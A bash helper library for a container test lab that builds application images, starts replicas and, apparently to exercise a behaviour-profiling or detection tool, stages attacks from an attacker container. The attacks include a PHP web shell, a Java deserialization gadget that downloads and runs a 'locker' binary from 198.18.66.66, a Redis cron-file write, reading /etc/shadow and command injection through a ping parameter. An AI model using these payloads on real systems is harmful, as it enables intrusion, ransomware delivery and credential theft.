# What the scripts of lab/profiles share; source it.
# shellcheck shell=bash
# shellcheck source=lab/scenarios/lib.sh
LAB_LABEL=profiles
source "$(dirname "${BASH_SOURCE[0]}")/../scenarios/lib.sh"

here=$lab/profiles
prefix=clew-lab-profiles
jobs_of_a_moment=(updates short)

applications() { grep -v '^#' "$here/applications"; }
is_job() { [[ " ${jobs_of_a_moment[*]} " == *" $1 "* ]]; }

# Makes the image of an application: build_application NAME BASE RELEASE
build_application() {
	local log
	log=$(DOCKER_BUILDKIT=0 docker build -q --build-arg "BASE=clew-lab/$2" --build-arg "APPLICATION=$1" \
		--build-arg "RELEASE=$3" -t "clew-lab/profile-$1:$3" "$here" 2>&1) || fail "$log"
}

build_applications() {
	"$lab/images/build" servers apps cloud >&2
	applications | while read -r name base _; do build_application "$name" "$base" 1; done
	build_application python apps 2
}

# Starts a replica as compose would call it, so that replicas share a profile:
# start_replica NAME RELEASE REPLICA [OPTION OF docker run]...
start_replica() {
	local name=$1 release=$2 replica=$3 options
	shift 3
	read -r -a options < <(applications | sed -n "s/^$name [a-z]* *//p")
	docker run -d --name "$prefix-$name-$replica" --network "$prefix" --network-alias "$name" --label clew.lab=profiles \
		--label com.docker.compose.project=lab --label "com.docker.compose.service=$name" --memory 512m \
		--pids-limit 256 "${options[@]}" "$@" "clew-lab/profile-$name:$release" "$name" >/dev/null
}

start_applications() { # start_applications REPLICAS
	local name replica
	make_network "$prefix"
	make_outside
	for name in $(applications | cut -d' ' -f1); do
		is_job "$name" || for ((replica = 1; replica <= $1; replica++)); do start_replica "$name" 1 "$replica"; done
	done
	start_users
	within 120 load 1 0 5 || fail "an application does not answer: $(load 1 0 5 2>&1 | tail -n 3)"
}

start_users() {
	docker run -d --name "$prefix-people" --network "$prefix" --label clew.lab=profiles -v "$here/load:/srv/load:ro" \
		--entrypoint sleep clew-lab/apps infinity >/dev/null
}
load() { docker exec "$prefix-people" /srv/load "$@"; }

# Runs what ends by itself again and again, until it is killed: run_jobs
run_jobs() {
	local name
	trap 'exit 0' TERM
	while :; do
		for name in short short updates; do
			start_replica "$name" 1 job && docker wait "$prefix-$name-job" >/dev/null
			docker rm "$prefix-$name-job" >/dev/null
		done
	done
}

# What attacks.
address() { docker inspect -f "{{(index .NetworkSettings.Networks \"$outside\").IPAddress}}" "$prefix-$1-1"; }
from_outside() { docker exec "$prefix-attacker" "$@" >/dev/null 2>&1 || true; }

prepare_attacker() {
	local name
	start_in "$outside" "$prefix-attacker" --ip 198.18.66.66 clew-lab/cloud python3 sink.py
	for name in python node apache java cache; do docker network connect "$outside" "$prefix-$name-1"; done
	# shellcheck disable=SC2016 # PHP reads it
	echo '<?php system($_GET["c"]);' | docker exec -i "$prefix-attacker" tee /tmp/s.php >/dev/null
	docker run --rm --entrypoint java clew-lab/apps -cp /srv/apps/java App gadget \
		'curl -s -o /tmp/.sync http://198.18.66.66:8000/locker; chmod +x /tmp/.sync; /tmp/.sync' | tr -d '\n' |
		docker exec -i "$prefix-attacker" tee /tmp/object >/dev/null
}

attack() { # attack APPLICATION COMMAND
	local at command=$2
	case $command in
	redis)
		from_outside bash -c "exec 3<>/dev/tcp/$(address cache)/6379
			printf 'CONFIG SET dir /etc/cron.d\r\nCONFIG SET dbfilename root\r\nSAVE\r\n' >&3
			head -n 3 <&3"
		;;
	exec) docker exec -u root "$prefix-$1-1" sh -c 'id; cat /etc/shadow' >/dev/null ;;
	RUN*)
		at=$(address "$1")
		from_outside curl -s --max-time 10 -G "http://$at:8080/ping" --data-urlencode "host=${command#RUN }"
		;;
	*)
		at=$(address "$1")
		read -r -a command <<<"${command//APP/http://$at:8080}"
		from_outside "${command[@]}" --max-time 10
		;;
	esac
}

# A job that has just ended may hold the network for a moment.
take_down() { within 20 env LAB_LABEL=profiles "$lab/down" || true; }
